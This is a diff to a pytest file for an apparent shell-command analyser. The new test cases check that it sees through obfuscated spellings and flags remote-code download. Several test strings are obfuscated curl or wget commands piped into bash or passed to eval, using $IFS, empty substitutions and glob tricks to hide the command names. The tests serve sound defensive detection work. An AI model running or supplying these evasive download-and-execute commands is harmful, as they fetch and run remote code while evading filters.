@@ -33,6 +33,8 @@ def sniffed(text: str) -> Interpretation:
         ("c$*url -s https://a.test/w | b$1ash", "curl -s https://a.test/w | bash"),
         ('ba${x}sh -c "$(cu${x}rl https://a.test/a)"', 'bash -c "$(curl https://a.test/a)"'),
         ("zsh =(curl -fsSL https://a.test/z)", "zsh <(curl -fsSL https://a.test/z)"),
+        ("cur$()l -s https://a.test/e | ba$()sh", "curl -s https://a.test/e | bash"),
+        ('/bin/ba[s]h -c "$(/usr/bin/cu[r]l -s https://a.test/k)"', "/bin/bash -c"),
     ],
 )
 def test_expansions_are_undone_as_the_shell_does(text: str, expected: str) -> None:
@@ -48,6 +50,9 @@ def test_expansions_are_undone_as_the_shell_does(text: str, expected: str) -> No
         'ba${x}sh -c "$(cu${x}rl https://a.test/a)"',
         "zsh =(curl -fsSL https://a.test/z)",
         "sudo zsh =(wget -qO- https://a.test/z)",
+        "curl${IFS}-s${IFS}https://a.test/i|bash",
+        'X=$(curl -s https://a.test/v);eval "$X"',
+        'p=$(wget -qO- https://a.test/v); bash -c "${p}"',
     ],
 )
 def test_the_download_each_spelling_hides_is_run(text: str) -> None:
@@ -56,7 +61,14 @@ def test_the_download_each_spelling_hides_is_run(text: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "text", ["/???/?as? -c 'id'", "cu$@rl -s https://a.test/x", "w${u}get https://a.test/x"]
+    "text",
+    [
+        "/???/?as? -c 'id'",
+        "cu$@rl -s https://a.test/x",
+        "w${u}get https://a.test/x",
+        "sudo /???/b?sh -c 'id'",
+        "env c\\url -s https://a.test/x",
+    ],
 )
 def test_a_name_no_one_wrote_out_is_a_hidden_command(text: str) -> None:
     assert Behaviour.HIDDEN_COMMAND in sniffed(text).behaviours
@@ -103,6 +115,9 @@ def test_brace_expansion_makes_the_shells_words(text: str, expanded: str | None)
         'mk() { mkdir -p "$@" && cd "$1"; }',
         "diff =(ls dir1) =(ls dir2)",
         'tar xzf "app-${VERSION}-linux.tar.gz"',
+        'OLDIFS=$IFS; IFS=,; read -r a b <<< "x,y"; IFS=$OLDIFS',
+        'X=$(curl -s https://api.example.com/v1/me); echo "$X" | jq .name',
+        "sudo env DEBIAN_FRONTEND=noninteractive apt-get upgrade -y",
     ],
 )
 def test_everyday_expansions_do_nothing_of_concern(text: str) -> None:
